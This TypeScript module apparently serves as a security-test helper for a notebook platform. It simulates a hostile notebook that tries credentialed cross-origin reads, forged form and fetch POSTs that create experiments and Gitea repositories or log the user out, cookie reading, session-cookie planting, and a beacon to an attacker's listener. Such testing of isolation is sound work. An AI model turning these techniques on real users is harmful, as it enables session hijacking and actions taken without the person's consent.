/** What a hostile notebook does in the browser of whoever opens it. Runs in the page, so it may use nothing from outside. */

/** Where the platform's other origins are. */
export interface Targets {
  dashboard: string;
  git: string;
  session: string;
  socket: string;
}

/** Tries everything and gives, by name, what it could learn: `null` where it learnt nothing. */
export async function attack({ dashboard, git, session, socket }: Targets): Promise<Record<string, string | null>> {
  const create = `${dashboard}/api/trpc/experiments.create`;
  const body = (name: string) => JSON.stringify({ name });
  const learnt: Record<string, string | null> = {};

  const read = async (name: string, url: string, init: RequestInit = {}) => {
    learnt[name] = await fetch(url, { credentials: 'include', ...init }).then(
      (answer) => (answer.type === 'opaque' ? null : answer.text()),
      () => null,
    );
  };
  await read('a query', `${dashboard}/api/trpc/sessions.current`);
  await read('a query without CORS', `${dashboard}/api/trpc/sessions.current`, { mode: 'no-cors' });
  await read('a page', `${dashboard}/experiments`);
  await read('the figures', `${dashboard}/user/alpha/metrics`);
  await read('Gitea', `${git}/alice`);
  const headers = { 'Content-Type': 'application/json' };
  await read('a JSON post', create, { method: 'POST', headers, body: body('by-json') });
  const blind = { method: 'POST', mode: 'no-cors' } as const;
  await read('a text post', create, { ...blind, body: body('by-text') });
  await read('a blob post', create, { ...blind, body: new Blob([body('by-blob')]) });
  const parts = new FormData();
  parts.set('name', 'by-multipart');
  await read('a multipart post', create, { ...blind, body: parts });
  // tRPC takes such a body where a procedure has no input.
  await read('a log-out', `${dashboard}/api/trpc/sessions.removeCurrent`, { ...blind, body: parts });
  learnt.beacon =
    String(navigator.sendBeacon(create, new Blob([body('by-beacon')], { type: 'text/plain' })) && '') || null;

  // Forms, which need no leave of the other origin, into frames of this page.
  const submit = (target: string, encoding: string, name: string, value: string) =>
    new Promise<void>((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `f${Math.random()}`;
      document.body.append(frame);
      frame.addEventListener('load', () => resolve());
      setTimeout(resolve, 2000);
      const form = document.createElement('form');
      Object.assign(form, { method: 'post', action: target, enctype: encoding, target: frame.name });
      const field = document.createElement('input');
      Object.assign(field, { name, value });
      form.append(field);
      document.body.append(form);
      form.submit();
    });
  await submit(create, 'text/plain', '{"name":"by-form","x":"', '"}');
  await submit(create, 'multipart/form-data', 'name', 'by-form-data');
  await submit(create, 'application/x-www-form-urlencoded', 'name', 'by-form-url');
  await submit(`${git}/repo/create`, 'application/x-www-form-urlencoded', 'repo_name', 'stolen');

  learnt['a stream'] = await new Promise((resolve) => {
    const source = new EventSource(`${dashboard}/api/trpc/operations.watch?input={}`, { withCredentials: true });
    source.onopen = () => resolve('opened');
    source.onmessage = (event) => resolve(String(event.data));
    source.onerror = () => {
      source.close();
      resolve(null);
    };
  });
  learnt['a WebSocket'] = await new Promise((resolve) => {
    const open = new WebSocket(`${socket}/api/trpc`);
    open.onopen = () => resolve('opened');
    open.onerror = () => resolve(null);
  });
  const frame = document.createElement('iframe');
  frame.src = `${dashboard}/experiments`;
  document.body.append(frame);
  await new Promise((resolve) => {
    frame.addEventListener('load', resolve);
    setTimeout(resolve, 3000);
  });
  try {
    learnt['a frame'] = frame.contentDocument?.body.textContent?.includes('alice') ? 'read' : null;
  } catch {
    learnt['a frame'] = null;
  }
  learnt['its cookies'] = document.cookie.includes('hp_') ? document.cookie : null;
  // A cookie of the same name, to put another log-in in place of the person's or to lock them out.
  // biome-ignore lint/suspicious/noDocumentCookie: the old way, as an attacker may use it
  document.cookie = `hp_session=${session}; path=/`;
  return learnt;
}

/** Loads a picture from a listener of the attacker's: the browser sends its cookies along, since ports do not separate them. */
export async function callHome(picture: string): Promise<void> {
  await new Promise((resolve) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = resolve;
    image.src = picture;
  });
}
